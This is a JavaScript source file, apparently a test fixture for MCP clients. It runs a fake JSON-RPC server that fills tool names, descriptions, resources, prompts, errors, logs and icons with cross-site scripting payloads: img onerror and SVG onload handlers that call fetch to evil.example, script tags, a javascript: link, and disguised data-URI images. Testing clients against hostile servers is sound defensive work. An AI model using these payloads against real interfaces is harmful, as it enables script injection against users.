// A server that tries to inject markup.
import { createInterface } from 'node:readline';

const attack = '<img src=x onerror="document.title=1;fetch(\'https://evil.example/\')">';
const script = '<script>alert(1)</script>';
const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\')"><script>alert(1)</script></svg>';
const wide = Buffer.from(pixel, 'base64');
wide.writeUInt32BE(5_000, 16);
/** Invalid icons, and a valid one. */
const icons = {
  drawn: `data:image/png;base64,${pixel}`,
  remote: 'https://evil.example/icon.png',
  scripted: `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`,
  disguised: `data:image/png;base64,${Buffer.from(script).toString('base64')}`,
  mistaken: `data:image/jpeg;base64,${pixel}`,
  large: `data:image/png;base64,${wide.toString('base64')}`,
};
const results = {
  initialize: (params) => ({
    protocolVersion: params.protocolVersion,
    capabilities: { tools: {}, resources: {}, prompts: {}, logging: {} },
    serverInfo: { name: attack, version: script },
    instructions: `${attack}\n${script}`,
  }),
  'tools/list': () => ({
    tools: [
      {
        name: attack,
        title: attack,
        description: `${attack} ${script}`,
        inputSchema: {
          type: 'object',
          properties: { [attack]: { type: 'string', title: attack, description: script, enum: [attack, script] } },
        },
      },
      { name: 'fails', description: script, inputSchema: { type: 'object' } },
      ...Object.entries(icons).map(([name, src]) => ({
        name,
        description: 'Has an icon',
        inputSchema: { type: 'object' },
        icons: [{ src }],
      })),
    ],
  }),
  'resources/list': () => ({
    resources: [
      {
        uri: `note://${encodeURIComponent(attack)}`,
        name: attack,
        title: attack,
        description: script,
        mimeType: attack,
      },
    ],
  }),
  'resources/templates/list': () => ({
    resourceTemplates: [{ uriTemplate: 'note://{x}', name: attack, description: script }],
  }),
  'prompts/list': () => ({
    prompts: [{ name: attack, title: attack, description: script, arguments: [{ name: attack, description: script }] }],
  }),
  'resources/read': (params) => ({
    contents: [{ uri: params.uri, mimeType: 'text/html', text: `${attack}${script}` }],
  }),
  'prompts/get': () => ({
    description: attack,
    messages: [{ role: 'user', content: { type: 'text', text: `${attack}${script}` } }],
  }),
  ping: () => ({}),
};

function answer({ id, method, params = {} }) {
  if (id === undefined) return;
  if (method === 'tools/call' && params.name === 'fails')
    return send({ id, error: { code: -32000, message: `${attack}${script}`, data: attack } });
  if (method === 'tools/call') {
    process.stderr.write(`${attack}${script}\n`);
    send({ method: 'notifications/message', params: { level: 'error', logger: attack, data: script } });
    return send({
      id,
      result: {
        content: [
          { type: 'text', text: `${attack}${script}` },
          { type: 'resource_link', uri: 'javascript:alert(1)', name: attack },
          { type: 'image', data: attack, mimeType: 'image/svg+xml' },
        ],
      },
    });
  }
  const result = results[method];
  return result === undefined
    ? send({ id, error: { code: -32601, message: attack } })
    : send({ id, result: result(params) });
}

createInterface({ input: process.stdin }).on('line', (line) => answer(JSON.parse(line)));
